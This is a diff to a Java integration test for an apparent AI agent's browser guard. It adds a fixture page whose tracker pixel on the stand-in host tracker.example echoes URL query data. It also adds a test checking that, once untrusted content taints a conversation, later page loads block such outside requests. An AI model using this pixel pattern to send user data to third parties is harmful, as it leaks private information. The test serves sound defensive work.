@@ -44,6 +44,7 @@ class BrowserGuardIT {
   static HttpServer site;
   static HttpServer inside;
   static final List<String> insideHits = new CopyOnWriteArrayList<>();
+  static final List<String> pixelHits = new CopyOnWriteArrayList<>();
 
   @BeforeAll
   static void start() throws Exception {
@@ -52,7 +53,7 @@ class BrowserGuardIT {
         .start();
     String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
     assertTrue(
-        p.waitFor() == 0 || out.contains("File exists"),
+        p.waitFor() == 0 || out.contains("File exists") || out.contains("already assigned"),
         "this test adds " + PUBLIC
             + " to the loopback interface and needs root for it (CI runs ./steward test as root): "
             + out);
@@ -118,6 +119,18 @@ class BrowserGuardIT {
                 + ".then(t => document.body.append(' ' + t)), 50)</script></body>",
             "text/html");
       case "/secret" -> respond(ex, 200, "public-answer", "text/plain");
+      case "/tracked" ->
+        respond(
+            ex,
+            200,
+            "<title>Tracked</title><body>a page with a tracker<img src=\"http://tracker.example:"
+                + site.getAddress().getPort() + "/pixel?" + ex.getRequestURI().getRawQuery()
+                + "\"></body>",
+            "text/html");
+      case "/pixel" -> {
+        pixelHits.add(ex.getRequestURI().getRawQuery());
+        respond(ex, 200, "GIF89a", "image/gif");
+      }
       default -> respond(ex, 404, "no", "text/plain");
     }
   }
@@ -185,6 +198,43 @@ class BrowserGuardIT {
     assertFalse(
         t.lookups.stream().filter("rebind.example"::equals).count() > 2,
         "looked up once by the gate, once for the visit: " + t.lookups);
+  }
+
+  @Test
+  void unasked_after_untrusted_content_a_pages_own_requests_stay_with_the_allowed_hosts()
+      throws Exception {
+    // A host that is not on the list but public: a tracker's, as far as the guard can tell.
+    t.names.put("tracker.example", () -> new InetAddress[] {loopbackOr(PUBLIC)});
+    pixelHits.clear();
+    String conversation = id();
+    ToolResult clean = agent.execute(new dev.steward.protocol.method.Execute.Params(
+        id(),
+        id(),
+        "browser.open_url",
+        args("url", site("/tracked?d=first"), "timeout_s", 10),
+        null,
+        null,
+        conversation));
+    assertTrue(clean.ok(), String.valueOf(clean.error()));
+    Thread.sleep(300);
+    assertEquals(List.of("d=first"), pixelHits, "a clean conversation's page loads as it is");
+    // The page it read has tainted the conversation: the next visit, unasked, keeps its
+    // requests to the allowed hosts, so what the model put in the address reaches no one else.
+    ToolResult kept = agent.execute(new dev.steward.protocol.method.Execute.Params(
+        id(),
+        id(),
+        "browser.open_url",
+        args("url", site("/tracked?d=secret"), "timeout_s", 10),
+        null,
+        null,
+        conversation));
+    assertTrue(kept.ok(), String.valueOf(kept.error()));
+    Thread.sleep(300);
+    assertEquals(List.of("d=first"), pixelHits, "the tracker heard nothing of the second visit");
+    assertTrue(
+        kept.value().path("blocked").toString().contains("tracker.example"),
+        kept.value().toString());
+    assertTrue(kept.value().path("text").asText().contains("a page with a tracker"));
   }
 
   private static InetAddress loopbackOr(String literal) {
